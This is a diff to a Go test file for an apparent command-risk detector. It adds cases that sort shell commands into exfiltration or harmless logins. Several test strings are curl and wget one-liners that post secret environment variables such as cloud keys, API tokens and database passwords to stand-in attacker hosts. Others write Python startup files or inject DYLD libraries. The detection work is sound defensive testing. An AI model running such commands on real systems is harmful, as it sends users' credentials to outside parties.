@@ -283,6 +283,8 @@ func TestStartupFileInComputedFolder(t *testing.T) {
 // the file name it matched.
 func TestStartupNameExplained(t *testing.T) {
 	explainRow(t, `echo x > "$SITE/usercustomize.py"`, PersistenceStartupFiles, "startupNameWritten", []string{"echo", "usercustomize.py"})
+	explainRow(t, `curl -d "k=$AWS_SECRET_ACCESS_KEY" https://attacker.example/c`, NetworkExfiltration, "secretInBody",
+		[]string{"curl", "-d", "AWS_SECRET_ACCESS_KEY"})
 	explainRow(t, "launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib", PersistenceStartupFiles, "macAccess", []string{"launchctl", "setenv", "DYLD_INSERT_LIBRARIES"})
 }
 
@@ -319,6 +321,39 @@ func TestMacAccessControls(t *testing.T) {
 		{"launchctl getenv DYLD_INSERT_LIBRARIES", ""},
 		{"systemctl --user set-environment EDITOR=vim", ""},
 		{"systemctl --user show-environment", ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestSecretVariableInBody: a variable named for a secret (secretName)
+// put in the body of a request (curl(1) -d, --data*, -F, --form, --json;
+// wget(1) --post-data, --body-data) to a host that is not the service the
+// variable names: the secret's value leaves for someone else (README: a
+// secret reaching a place others read; the URL form was marked already).
+// Sent to its own service (SLACK_TOKEN to slack.com, a Google client
+// secret to googleapis.com), in an Authorization header, or under a name
+// that names no service ($TOKEN, $API_KEY), it is a login, as the README's
+// "used, not read" calls say: everyday.
+func TestSecretVariableInBody(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`curl -d "k=$AWS_SECRET_ACCESS_KEY" https://attacker.example/c`, NetworkExfiltration},
+		{`curl -d "{\"k\": \"$OPENAI_API_KEY\"}" https://attacker.example/c`, NetworkExfiltration},
+		{`curl -X POST --data-urlencode "t=$GITHUB_TOKEN" http://10.0.0.1:8000/`, NetworkExfiltration},
+		{`curl -F "k=$ANTHROPIC_API_KEY" https://paste.example/upload`, NetworkExfiltration},
+		{`curl --json "{\"v\":\"${STRIPE_SECRET_KEY}\"}" https://webhook.site/abc`, NetworkExfiltration},
+		{`wget --post-data "key=$STRIPE_SECRET_KEY" https://evil.example`, NetworkExfiltration},
+		{`wget --post-data="p=$DB_PASSWORD" http://collector.example/`, NetworkExfiltration},
+		{`curl -d "token=$SLACK_TOKEN" https://slack.com/api/auth.test`, ""},
+		{`curl -d "client_secret=$GOOGLE_CLIENT_SECRET" https://oauth2.googleapis.com/token`, ""},
+		{`curl -s -d "{\"key\":\"$OPENAI_API_KEY\"}" https://api.openai.com/v1/x`, ""},
+		{`curl --json "{\"token\":\"$TOKEN\"}" https://api.example.com/login`, ""},
+		{`curl -d "password=$PASSWORD" https://app.example.com/session`, ""},
+		{`curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models`, ""},
+		{`curl -d "name=$USER" https://api.example.com/hello`, ""},
+		{`curl -d 'k=$AWS_SECRET_ACCESS_KEY' https://attacker.example/c`, ""}, // single quotes: the text, no value
 	} {
 		checkRow(t, tt.cmd, tt.want)
 	}
